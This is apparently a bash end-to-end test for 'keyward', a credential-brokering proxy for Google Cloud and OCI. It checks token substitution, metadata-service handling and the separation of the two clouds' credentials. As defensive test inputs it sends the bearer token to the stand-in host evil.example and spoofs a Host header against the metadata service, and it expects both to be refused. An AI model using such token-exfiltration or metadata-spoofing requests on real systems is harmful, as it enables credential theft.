#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# keyward run at Google: the metadata service gives a stand-in, and the proxy puts the access
# token in its place.
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"
start
instances=$LAB_COMPUTE_URL/compute/v1/projects/$LAB_GOOGLE_PROJECT/zones/z/instances
md=http://169.254.169.254/computeMetadata/v1
cat >"$work/files/call" <<'CALL'
token=$(curl -sS -H Metadata-Flavor:Google "http://$GCE_METADATA_HOST/computeMetadata/v1/instance/service-accounts/default/token" |
    sed 's/.*"access_token":"\([^"]*\)".*/\1/')
header=$(mktemp)
printf 'authorization: Bearer %s%s\n' "$token" "${WRONG:-}" >"$header"
curl -sS -H "@$header" -w '\n%{http_code}\n' "$@"
CALL
for way in direct impersonated; do
    {
        printf '[source]\ntype = github\n[google lab]\nprovider = %s\n' "$LAB_GOOGLE_PROVIDER"
        [ $way = direct ] || printf 'service_account = %s\n' "$LAB_GOOGLE_ACCOUNT"
        printf '[tls]\nca_file = %s\n[dial]\nresolve = %s\n[audit]\nfile = %s\n' \
            "$LAB_CA_FILE" "$LAB_RESOLVE" "$work/files/audit"
    } >"$config"
    kw run -- bash "$work/files/call" "$instances"
    ok "$way: 200" is "$(tail -n 1 "$out")" 200
    ok "$way: an instance" has build-1
    ok "$way: given the token" says '1 requests given the access token, 0 refused'
    WRONG=x kw run -- env WRONG=x bash "$work/files/call" "$instances"
    ok "$way: another bearer: refused" is "$(tail -n 1 "$out")" 403
    ok "$way: another bearer: in Google's shape" has PERMISSION_DENIED
    kw run -- bash "$work/files/call" https://evil.example/
    ok "$way: foreign host: refused" not is "$rc" 0
    kw run -- bash "$work/files/call" "$instances?access_token=ya29.x"
    ok "$way: a token in the query: refused" is "$(tail -n 1 "$out")" 403
    kw run -- env
    ok "$way: no access token in the environment" not grep -q 'ya29\.[^k]' "$out"
    kw run -- curl -sS -H Metadata-Flavor:Google "$md/project/project-id"
    project=$LAB_GOOGLE_PROJECT
    [ $way = impersonated ] || project=$(cut -d / -f 2 <<<"$LAB_GOOGLE_PROVIDER") # its number is all that is known
    ok "$way: metadata: a project" is "$(cat "$out")" "$project"
done
kw run -- curl -sS -H Metadata-Flavor:Google "$md/instance/service-accounts/default/email"
ok 'metadata: whose' is "$(cat "$out")" "$LAB_GOOGLE_ACCOUNT"
kw run -- curl -sS "$md/instance/service-accounts/default/email"
ok 'metadata: without the header' has 'Metadata-Flavor'
kw run -- curl -sS -H Metadata-Flavor:Google -H X-Forwarded-For:1 "$md/instance/id"
ok 'metadata: forwarded' has X-Forwarded-For
kw run -- curl -sS -H Metadata-Flavor:Google -H Host:evil.example "$md/instance/id"
ok 'metadata: by another name' has 'metadata service only'
kw run -- curl -sS -H Metadata-Flavor:Google "$md/instance/service-accounts/default/identity?audience=https%3A%2F%2Fapp.example"
ok 'metadata: an ID token' grep -qE '^eyJ[A-Za-z0-9_.-]+$' "$out"
# Renewed under load: four clients at once, and the cloud forgets the token in between.
cat >"$work/files/load" <<LOAD
for c in 1 2 3 4; do
    (for i in \$(seq 15); do bash "$work/files/call" "$instances" | tail -n 1; done >"$work/files/load.\$c") &
done
wait
cat "$work"/files/load.[1-4]
LOAD
kw_start run -- bash "$work/files/load"
sleep 1
fault 'status=401,count=1,host=compute.*'
kw_wait
fault
expect_exit 'renewal under load' 0
ok 'renewal under load: no request lost' is "$(grep -cx 200 "$out")" 60
ok 'renewal under load: there was one' says '1 renewals'
kw run --isolation=off -- sh -c 'echo "${GCE_METADATA_HOST:-none} $CLOUDSDK_AUTH_ACCESS_TOKEN_FILE"; ls -l "$CLOUDSDK_AUTH_ACCESS_TOKEN_FILE"'
ok 'isolation off: no metadata service' grep -q '^none /dev/shm/keyward-run' "$out"
ok 'isolation off: told' says 'not isolated'
ok 'isolation off: nothing left' test -z "$(find /dev/shm -maxdepth 1 -name 'keyward-run.*' -user "$(id -u)")"

# A profile with both clouds, whose policy names the hosts of both: each run has one of them, and what
# it has goes nowhere near the other's hosts.
client=$(cd "$(dirname "$0")" && pwd)/ociclient
audit=$work/files/audit
{
    sed 's/^audience = .*//; s/^dial = .*//; s#^\[policy lab\]#&\nsign.host = *.oraclecloud.com *.googleapis.com#' "$LAB_KEYWARD_INI"
    printf '\n[token]\nuri = %s\n[audit]\nfile = %s\n[google lab]\nprovider = %s\nservice_account = %s\n' \
        "$token_uri" "$audit" "$LAB_GOOGLE_PROVIDER" "$LAB_GOOGLE_ACCOUNT"
} >"$config"
: >"$audit"
kw run -- true
expect_exit 'both clouds: which one?' 125
ok 'both clouds: told' says '--cloud'
kw run --cloud google -- bash "$work/files/call" "$instances"
ok 'both clouds, Google: 200' is "$(tail -n 1 "$out")" 200
kw run --cloud oci -- "$client" GET "$LAB_OBJECTS_URL/n/"
ok 'both clouds, OCI: 200' is "$(tail -n 1 "$out")" 200
kw run --cloud google -- bash "$work/files/call" "$LAB_OBJECTS_URL/n/"
ok "both clouds: no bearer for OCI's hosts" is "$(tail -n 1 "$out")" 000
ok "both clouds: Google's run says so" says 'oraclecloud.com: connecting to'
kw run --cloud oci -- curl -sS -H 'Authorization: Bearer ya29.keyward' -w '%{http_code}' "$instances"
ok "both clouds: no signature for Google's hosts" is "$(tail -n 1 "$out")" 000
ok "both clouds: OCI's run says so" says 'compute.googleapis.com: connecting to'
ok 'both clouds: the bearer went to Google alone' is "$(grep '"key":"bearer"' "$audit" | grep -o '"event":"call".*"host":"[^"]*"' | grep -vc 'googleapis.com')" 0
ok 'both clouds: it went there' grep -q '"event":"call","key":"bearer".*"host":"compute.googleapis.com"' "$audit"
ok "both clouds: the session key signed for OCI alone" is "$(grep '"event":"sign","key":"session"' "$audit" | grep -vc 'oraclecloud.com')" 0
ok 'both clouds: it signed' grep -q '"event":"sign","key":"session".*oraclecloud.com' "$audit"
# (request goes by the host: the same, one call after the other)
kw request GET "$instances"
expect_exit 'both clouds: request to Google' 0
kw request GET "$LAB_OBJECTS_URL/n/"
expect_exit 'both clouds: request to OCI' 0
# One cloud to the other: two runs and a pipe.
# shellcheck disable=SC2016 # CMD's shell
"$KW_BIN/keyward" --config "$config" --profile lab run --cloud google -- bash "$work/files/call" \
    "$LAB_STORAGE_URL/storage/v1/b/lab-bucket/o/hello.txt?alt=media" 2>"$work/files/said" |
    "$KW_BIN/keyward" --config "$config" --profile lab run --cloud oci -- \
        bash -c 'w=$(mktemp) && cat >"$w" && "$0" PUT "$1" "$w"; rm "$w"' "$client" "$objects_url/from-google" >"$out" 2>"$err"
ok 'from cloud to cloud: written' is "$(tail -n 1 "$out")" 200
kw request GET "$objects_url/from-google"
ok 'from cloud to cloud: what was read' has 'hello from lab-bucket'
kw audit verify "$audit"
expect_exit 'from cloud to cloud: the audit log is whole' 0
finish
